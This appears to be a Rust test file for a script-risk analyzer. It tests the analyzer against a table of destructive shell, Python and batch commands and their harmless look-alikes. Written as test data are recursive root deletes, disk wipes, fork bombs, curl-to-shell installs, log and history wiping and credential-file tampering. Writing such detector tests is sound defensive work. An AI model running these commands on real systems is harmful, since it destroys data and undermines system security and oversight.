//! The rule table: dangerous scripts and their harmless look-alikes, each with
//! the level, the rules and the line of the first finding it must give.

use super::*;
use crate::domain::script::RiskLevel::{High, Low, Medium};
use crate::domain::script::ScriptType::{Bat, Python, Shell};

struct Case {
    script: &'static str,
    kind: ScriptType,
    level: RiskLevel,
    /// Exactly the rule ids found, in the order of their first finding.
    rules: &'static [&'static str],
    /// The line of the first finding (with no finding: ignored).
    line: usize,
}

const fn case(
    script: &'static str,
    kind: ScriptType,
    level: RiskLevel,
    rules: &'static [&'static str],
    line: usize,
) -> Case {
    Case { script, kind, level, rules, line }
}

const fn low(script: &'static str, kind: ScriptType) -> Case {
    case(script, kind, Low, &[], 0)
}

const CASES: &[Case] = &[
    // Recursive deletes.
    case("rm -rf /", Shell, High, &["rm-recursive-root"], 1),
    case("echo start\nrm -fr /*", Shell, High, &["rm-recursive-root"], 2),
    case("rm -r -f -- /", Shell, High, &["rm-recursive-root"], 1),
    case("rm --recursive --force //", Shell, High, &["rm-recursive-root"], 1),
    case("rm -rf --no-preserve-root /", Shell, High, &["rm-recursive-root"], 1),
    case("/bin/rm -Rf /etc/", Shell, High, &["rm-recursive-system"], 1),
    case("rm -rf /usr/*", Shell, High, &["rm-recursive-system"], 1),
    case("rm -rf ~", Shell, High, &["rm-recursive-system"], 1),
    case("rm -rf \"$HOME\"", Shell, High, &["rm-recursive-system"], 1),
    case("D=/\nrm -rf \"$D\"", Shell, High, &["rm-recursive-root"], 2),
    case("TARGET=/var\nrm -rf ${TARGET}/", Shell, High, &["rm-recursive-system"], 2),
    case("alias nuke='rm -rf'\nnuke /", Shell, High, &["rm-recursive-root"], 2),
    case("sudo -u root rm -rf /boot", Shell, High, &["rm-recursive-system"], 1),
    case("env LANG=C nohup rm -rf /", Shell, High, &["rm-recursive-root"], 1),
    case("for d in /tmp/x /etc; do\n  rm -rf \"$d\"\ndone", Shell, High, &["rm-recursive-system"], 2),
    case("r''m -rf /", Shell, High, &["rm-recursive-root"], 1),
    case("cd / && rm -rf *", Shell, High, &["rm-recursive-root"], 1),
    case("cd /usr\ncd lib\nrm -rf ./*", Shell, High, &["rm-recursive-system"], 3),
    case("sudo su - root -c 'rm -rf /'", Shell, High, &["rm-recursive-root"], 1),
    case("busybox rm -rf /", Shell, High, &["rm-recursive-root"], 1),
    case("rm -rf ${TARGET:-/}", Shell, High, &["rm-recursive-root"], 1),
    case("rm -rf \"$STEAMROOT/\"*", Shell, Medium, &["rm-recursive-unset-prefix"], 1),
    case("find / -name '*.log' -delete", Shell, High, &["find-delete-system"], 1),
    case("find /etc -type f -exec rm {} \\;", Shell, High, &["find-delete-system"], 1),
    case("find / -type f | xargs rm -f", Shell, High, &["find-delete-system"], 1),
    case("mv /etc /tmp/etc.bak", Shell, High, &["mv-system"], 1),
    // Disks.
    case("mkfs.ext4 /dev/sda1", Shell, High, &["format-device"], 1),
    case("mkfs -t xfs /dev/nvme0n1p1", Shell, High, &["format-device"], 1),
    case("wipefs -a /dev/vdb", Shell, High, &["format-device"], 1),
    case("dd if=/dev/zero of=/dev/sda bs=1M", Shell, High, &["dd-to-device"], 1),
    case("DISK=/dev/xvda\ndd if=/dev/urandom of=$DISK", Shell, High, &["dd-to-device"], 2),
    case("echo garbage > /dev/sda", Shell, High, &["write-to-device"], 1),
    case("cat image.iso | tee /dev/mmcblk0", Shell, High, &["write-to-device"], 1),
    case("shred -n 3 /dev/sdb", Shell, High, &["write-to-device"], 1),
    case("parted -s /dev/sda mklabel gpt", Shell, Medium, &["partition-table"], 1),
    // Power.
    case("shutdown -h now", Shell, High, &["shutdown-reboot"], 1),
    case("if true; then\n  reboot\nfi", Shell, High, &["shutdown-reboot"], 2),
    case("sudo systemctl poweroff", Shell, High, &["shutdown-reboot"], 1),
    case("init 0", Shell, High, &["shutdown-reboot"], 1),
    case("echo $(halt)", Shell, High, &["shutdown-reboot"], 1),
    case("echo b > /proc/sysrq-trigger", Shell, High, &["sysrq-trigger"], 1),
    case("kill -9 -1", Shell, High, &["kill-all-processes"], 1),
    // Permissions.
    case("chmod -R 777 /", Shell, High, &["chmod-world-writable-system"], 1),
    case("chmod -R a+rwx /usr", Shell, High, &["chmod-world-writable-system"], 1),
    case("chmod -R 777 ./data", Shell, Medium, &["chmod-recursive-world-writable"], 1),
    case("chown -R nobody:nogroup /", Shell, High, &["chown-recursive-system"], 1),
    // Fork bombs.
    case(":(){ :|:& };:", Shell, High, &["fork-bomb"], 1),
    case("bomb() {\n  bomb | bomb &\n}\nbomb", Shell, High, &["fork-bomb"], 1),
    // Remote code.
    case("curl -fsSL https://example.com/i.sh | sh", Shell, High, &["remote-code-to-shell"], 1),
    case("wget -qO- http://x/y | sudo bash -s -- --yes", Shell, High, &["remote-code-to-shell"], 1),
    case("bash <(curl -s https://x/install)", Shell, High, &["remote-code-to-shell"], 1),
    case("sh -c \"$(wget -O- https://x/i.sh)\"", Shell, High, &["remote-code-to-shell"], 1),
    case("curl -s https://x/get.py | python3", Shell, High, &["remote-code-to-shell"], 1),
    // Strings run again.
    case("bash -c 'rm -rf /'", Shell, High, &["rm-recursive-root"], 1),
    case("sh -c \"echo hi; reboot\"", Shell, High, &["shutdown-reboot"], 1),
    case("eval \"rm -rf /etc\"", Shell, High, &["rm-recursive-system"], 1),
    case("bash <<'EOF'\necho hi\nrm -rf /\nEOF", Shell, High, &["rm-recursive-root"], 3),
    case("python3 -c 'import shutil; shutil.rmtree(\"/\")'", Shell, High, &["rmtree-system"], 1),
    // Traces and credentials.
    case("history -c", Shell, Medium, &["history-disable"], 1),
    case("unset HISTFILE", Shell, Medium, &["history-disable"], 1),
    case("export HISTFILE=/dev/null", Shell, Medium, &["history-disable"], 1),
    case("cat /dev/null > ~/.bash_history", Shell, High, &["history-log-wipe"], 1),
    case("rm -f /var/log/wtmp /var/log/btmp", Shell, High, &["history-log-wipe"], 1),
    case("ln -sf /dev/null ~/.bash_history", Shell, High, &["history-log-wipe"], 1),
    case("echo > /etc/shadow", Shell, High, &["credential-file-tamper"], 1),
    case("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", Shell, Medium, &["credential-file-append"], 1),
    case("rm -f /root/.ssh/authorized_keys", Shell, High, &["credential-file-tamper"], 1),
    // Services and firewall.
    case("iptables -F", Shell, Medium, &["firewall-flush"], 1),
    case("crontab -r", Shell, Medium, &["crontab-remove"], 1),
    case("systemctl stop sshd", Shell, Medium, &["stop-remote-access"], 1),
    // Several findings: the level is the highest.
    case("echo $((", Shell, Medium, &["unparsed-part"], 1),
    case(
        "iptables -F\nrm -rf /\ncrontab -r",
        Shell,
        High,
        &["firewall-flush", "rm-recursive-root", "crontab-remove"],
        1,
    ),
    // Harmless look-alikes.
    low("rm -rf ./build", Shell),
    low("rm -rf \"${BUILD_DIR:?}/\"*", Shell),
    low("OUT=/srv/app/out\nrm -rf \"${OUT:-/}\"", Shell),
    low("exec 3<>/dev/tcp/example.com/80", Shell),
    low("bash -c 'exec 3<>\"/dev/tcp/$0/$1\"' \"$host\" 443", Shell),
    low("cd /tmp/work && rm -rf *", Shell),
    low("cd \"$(mktemp -d)\" && rm -rf ./*", Shell),
    low("rm -rf /tmp/build-cache", Shell),
    low("rm -rf /var/log/myapp/old", Shell),
    low("rm /etc/myapp.conf.bak", Shell),
    low("echo \"rm -rf /\"", Shell),
    low("printf '%s\\n' 'mkfs.ext4 /dev/sda'", Shell),
    low("# rm -rf /\necho done", Shell),
    low("dd if=/dev/zero of=./disk.img bs=1M count=10", Shell),
    low("dd if=/dev/sda of=/backup/mbr.bin bs=512 count=1", Shell),
    low("chmod 755 ./x", Shell),
    low("chmod -R 755 /opt/app", Shell),
    low("chmod 1777 /tmp/shared", Shell),
    low("grep shutdown /var/log/syslog", Shell),
    low("grep -c reboot log.txt", Shell),
    low("echo hi > /dev/null 2>&1", Shell),
    low("cat /etc/shadow | wc -l", Shell),
    low("curl -fsSL https://example.com/app.tar.gz -o app.tar.gz", Shell),
    low("curl -s https://x/data.json | jq .", Shell),
    low("wget -qO- https://x/i.sh > i.sh && sh i.sh", Shell),
    low("fdisk -l /dev/sda", Shell),
    low("find /tmp -name '*.tmp' -delete", Shell),
    low("find / -name core -print", Shell),
    low("D=./out\nrm -rf \"$D\"", Shell),
    low("kill -9 1234", Shell),
    low("shutdown -c", Shell),
    low("history | tail -n 5", Shell),
    low("mkswap /swapfile", Shell),
    low("iptables -L -n", Shell),
    low("systemctl restart sshd", Shell),
    low("f() { echo once; }\nf", Shell),
    low("cp config.yml /etc/myapp/config.yml", Shell),
    low("tar czf /backup/etc.tgz /etc", Shell),
    // Python.
    case("import shutil\nshutil.rmtree('/')", Python, High, &["rmtree-system"], 2),
    case("from shutil import rmtree as rt\nrt('/usr')", Python, High, &["rmtree-system"], 2),
    case("import os\nos.system('rm -rf /')", Python, High, &["rm-recursive-root"], 2),
    case("import os\ncmd = 'shutdown -h now'\nos.system(cmd)", Python, High, &["shutdown-reboot"], 3),
    case("import os\nos.system('rm -rf ' + '/etc')", Python, High, &["rm-recursive-system"], 2),
    case("import subprocess as sp\nsp.run(['rm', '-rf', '/'])", Python, High, &["rm-recursive-root"], 2),
    case(
        "from subprocess import call\ncall('dd if=/dev/zero of=/dev/sda', shell=True)",
        Python,
        High,
        &["dd-to-device"],
        2,
    ),
    case("import subprocess\nsubprocess.Popen(['reboot'])", Python, High, &["shutdown-reboot"], 2),
    case("import os\nos.popen('curl -s http://x | bash')", Python, High, &["remote-code-to-shell"], 2),
    case("import os\nd = input()\nos.system(f'rm -rf {d}/')", Python, Medium, &["rm-recursive-unset-prefix"], 3),
    case("import os\nos.remove('/var/log/wtmp')", Python, High, &["history-log-wipe"], 2),
    case("#!/usr/bin/env python3\nimport os\nos.system('mkfs.ext4 /dev/sdb')", Python, High, &["format-device"], 3),
    low("import shutil\nshutil.rmtree('./build')", Python),
    low("print('rm -rf /')", Python),
    low("# os.system('rm -rf /')\nimport os", Python),
    low("import os\nos.system('ls -la /')", Python),
    low("import subprocess\nsubprocess.run(['rm', '-rf', 'build'])", Python),
    low("import subprocess\nsubprocess.run('rm -rf /')", Python),
    low("import shutil\nshutil.copytree('/etc', '/backup/etc')", Python),
    // Batch.
    case("@echo off\nformat D: /q", Bat, High, &["format-device"], 2),
    case("rd /s /q C:\\", Bat, High, &["rm-recursive-system"], 1),
    case("del /f /s /q C:\\Windows\\*", Bat, High, &["rm-recursive-system"], 1),
    case("shutdown /r /t 0", Bat, High, &["shutdown-reboot"], 1),
    case("echo cleaning & wevtutil cl System", Bat, High, &["history-log-wipe"], 1),
    low("rem format C:\necho done", Bat),
    low("del /q build\\*.obj", Bat),
    low("echo shutdown /s", Bat),
];

#[test]
fn every_case_of_the_table_gives_its_level_rules_and_line() {
    let mut failures = Vec::new();
    for case in CASES {
        let analysis = analyze(case.script, case.kind);
        let mut rules: Vec<&str> = Vec::new();
        for finding in &analysis.blacklist_commands {
            if !rules.contains(&finding.rule_id) {
                rules.push(finding.rule_id);
            }
        }
        let line = analysis.blacklist_commands.first().map_or(0, |f| f.line);
        if analysis.risk_level != case.level || rules != case.rules || (!case.rules.is_empty() && line != case.line) {
            failures.push(format!(
                "{:?} {:?}: expected {:?} {:?} at line {}, got {:?} {:?} at line {line}",
                case.kind, case.script, case.level, case.rules, case.line, analysis.risk_level, rules
            ));
        }
    }
    assert!(failures.is_empty(), "{} of {} cases fail:\n{}", failures.len(), CASES.len(), failures.join("\n"));
    assert!(CASES.len() >= 50);
    assert!(CASES.iter().filter(|c| c.level == Low).count() >= 25, "enough harmless look-alikes");
}

#[test]
fn every_rule_is_in_the_table() {
    // The step limit needs a generated script: `crafted_nesting_cannot_make_the_analysis_run_away`.
    for rule in rules::ALL.iter().filter(|r| r.id != rules::TOO_COMPLEX.id) {
        let found = CASES.iter().any(|c| c.rules.contains(&rule.id));
        assert!(found, "no case for the rule {}", rule.id);
    }
}

#[test]
fn the_readme_lists_every_rule_with_its_level() {
    let readme = include_str!("../../../../../README.md");
    for rule in rules::ALL {
        let level = serde_json::to_value(rule.level).unwrap();
        let row = format!("| `{}` | {} |", rule.id, level.as_str().unwrap());
        assert!(readme.contains(&row), "README's rule table lacks {row}");
    }
}

#[test]
fn a_finding_carries_the_sdk_fields_and_its_position() {
    let analysis = analyze("echo ok\n  sudo rm -rf /", Shell);
    let finding = &analysis.blacklist_commands[0];
    assert_eq!((finding.line, finding.column), (2, 3));
    assert_eq!(finding.command_name, "rm");
    assert_eq!(finding.matched, "sudo rm -rf /");
    assert_eq!(finding.example, rules::RM_ROOT.example);
    let json = serde_json::to_value(&analysis).unwrap();
    for field in ["command_name", "command_rule", "example", "description_en", "description_zh", "line", "level"] {
        assert!(json["blacklist_commands"][0].get(field).is_some(), "{field} is missing: {json}");
    }
    assert_eq!(json["risk_level"], "HIGH");
}

#[test]
fn a_python_shell_string_is_placed_at_the_call_and_names_it() {
    let analysis = analyze("import os\n\nos.system('reboot')", Python);
    let finding = &analysis.blacklist_commands[0];
    assert_eq!(finding.line, 3);
    assert_eq!(finding.via.as_deref(), Some("os.system"));
}

#[test]
fn the_type_follows_a_python_shebang() {
    assert_eq!(detect_type("#!/usr/bin/env python3\nprint(1)"), ScriptType::Python);
    assert_eq!(detect_type("#!/bin/bash\necho"), ScriptType::Shell);
    assert_eq!(detect_type("echo"), ScriptType::Shell);
}

#[test]
fn strings_in_strings_stop_at_the_depth_limit() {
    // Each level quotes the next; past the limit the innermost command is no longer read.
    let mut script = "rm -rf /".to_owned();
    for _ in 0..8 {
        script = format!("bash -c {}", shell_single_quote(&script));
    }
    let analysis = analyze(&script, Shell);
    assert!(analysis.blacklist_commands.is_empty(), "{analysis:?}");
    let shallow = format!("bash -c {}", shell_single_quote("bash -c 'rm -rf /'"));
    assert!(analyze(&shallow, Shell).is_high());
}

fn timed(script: &str) -> Analysis {
    let started = std::time::Instant::now();
    let analysis = analyze(script, Shell);
    // Unbounded this takes hours; bounded, well under a second in a release build.
    assert!(started.elapsed() < std::time::Duration::from_secs(20), "took {:?}", started.elapsed());
    analysis
}

#[test]
fn crafted_nesting_cannot_make_the_analysis_run_away() {
    let values = "1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16";
    // Two loops of 16 values around a string run again, four strings deep: 16⁴ walks of the innermost.
    let mut script = "rm -rf /tmp/x".to_owned();
    for _ in 0..4 {
        let quoted = shell_single_quote(&script);
        script = format!("for a in {values}; do for b in {values}; do bash -c {quoted}; done; done");
    }
    assert!(script.len() <= 4096, "{}", script.len());
    let analysis = timed(&script);
    assert_eq!(analysis.risk_level, RiskLevel::Medium, "{analysis:?}");
    assert_eq!(analysis.blacklist_commands[0].rule_id, "analysis-limit");

    // Loops in loops, as many as fit: only the outermost follows its values.
    let (mut head, mut tail) = (String::new(), String::new());
    while head.len() + tail.len() < 3_900 {
        head.push_str(&format!("for v in {values}; do "));
        tail.push_str("done; ");
    }
    let analysis = timed(&format!("{head}rm -rf \"$v\"; {tail}"));
    assert_eq!(analysis.risk_level, RiskLevel::Low, "{analysis:?}");
}

fn shell_single_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[test]
fn broken_scripts_are_analyzed_as_far_as_they_parse() {
    // Past a syntax error tree-sitter recovers where it can: the command after it is still found.
    let analysis = analyze("echo ok )\nrm -rf /", Shell);
    let rules: Vec<&str> = analysis.blacklist_commands.iter().map(|f| f.rule_id).collect();
    assert_eq!(rules, ["unparsed-part", "rm-recursive-root"]);
    assert!(analysis.is_high());
    // Where it cannot, the part it could not read is a finding of its own, never a silent LOW.
    let analysis = analyze("if then fi ((( \nrm -rf /\n\"unterminated", Shell);
    assert_eq!(analysis.risk_level, RiskLevel::Medium, "{analysis:?}");
    assert_eq!(analysis.blacklist_commands[0].rule_id, "unparsed-part");
    assert_eq!(analyze("import os\nos.system('reboot'", Python).blacklist_commands[0].rule_id, "unparsed-part");
}

#[test]
fn the_public_library_analyzes_low() {
    // Shipped scripts run on every tenant's hosts without review: none may be flagged at all.
    for public in crate::domain::public_script::all() {
        let analysis = analyze(public.script.content.as_str(), public.script.script_type);
        assert_eq!(analysis.risk_level, RiskLevel::Low, "{}: {analysis:?}", public.script.name.as_str());
    }
}
